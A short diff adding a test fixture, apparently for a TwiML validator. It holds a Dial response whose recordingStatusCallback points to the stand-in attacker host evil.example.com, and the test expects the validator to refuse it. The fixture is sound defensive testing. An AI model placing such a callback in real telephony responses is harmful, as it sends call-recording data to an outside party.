@@ -1,0 +1,2 @@
+# class: recordingStatusCallback of Dial to a foreign host; expected: refused twiml
+response = '<Response><Dial recordingStatusCallback="https://evil.example.com/PWNED">+46709999999</Dial></Response>'
